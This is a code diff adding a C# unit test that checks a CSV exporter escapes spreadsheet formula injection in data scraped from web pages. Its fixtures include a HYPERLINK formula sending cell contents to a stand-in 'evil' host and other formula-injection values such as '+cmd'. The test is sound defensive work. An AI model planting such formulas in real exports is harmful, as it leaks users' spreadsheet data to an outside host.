@@ -209,6 +209,24 @@ public sealed class EnrichmentRuntimeTests
             writer.ToString());
     }
 
+    // Titles and extracted text come from arbitrary web pages; a spreadsheet opening the export would run them.
+    [Fact]
+    public async Task Csv_neutralises_cells_a_spreadsheet_would_run_as_formulas_and_leaves_numbers_alone()
+    {
+        var records = new[]
+        {
+            DealSet.Instance.Enrich("x", "r1", "=HYPERLINK(\"http://evil/?\"&A1,\"click\")", null, Fields("""{ "name": "@SUM(1+1)", "amount": -3 }""")),
+            DealSet.Instance.Enrich("x", "r2", "+cmd", null, Fields("""{ "name": "-2+3", "amount": 4 }""")),
+        };
+
+        var writer = new StringWriter();
+        await DealSet.Instance.WriteCsvAsync(ToAsync(records), writer);
+
+        var lines = writer.ToString().Split("\r\n");
+        Assert.Equal("r1,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\",,'@SUM(1+1),-3,\"Buyer, Inc.\",0.5", lines[1]);
+        Assert.Equal("r2,'+cmd,,'-2+3,4,\"Buyer, Inc.\",0.5", lines[2]);
+    }
+
     [Fact]
     public async Task Json_lines_write_one_compact_object_per_record()
     {
